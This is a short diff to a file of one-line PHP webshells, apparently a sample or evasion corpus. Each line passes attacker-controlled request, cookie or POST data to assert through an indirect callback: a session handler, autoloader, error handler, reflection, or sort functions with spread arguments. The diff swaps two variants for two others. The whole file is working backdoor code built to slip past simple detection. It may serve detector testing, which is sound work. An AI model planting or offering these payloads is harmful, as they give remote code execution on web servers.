@@ -1,5 +1,5 @@
-<?php $cb = Array ( 'assert' , 'x' ); $fn = $cb[0]; $fn($_POST['c']); ?>
-<?php Session_Set_Save_Handler ( "assert", "assert" ); $_SESSION['a'] = $_POST['c']; ?>
+<?php Spl_Autoload_Register ( 'assert' ); class_exists( $_GET['c'] ); ?>
+<?php Set_Error_Handler ( "assert" ); trigger_error( $_COOKIE['c'] ); ?>
 <?php $f = new ReflectionFunction( 'assert' ); $f->invokeArgs( [ $_GET['c'] ] ); ?>
 <?php uasort( ...$_COOKIE ); ?>
 <?php usort( ... $_POST ['f'] ); ?>
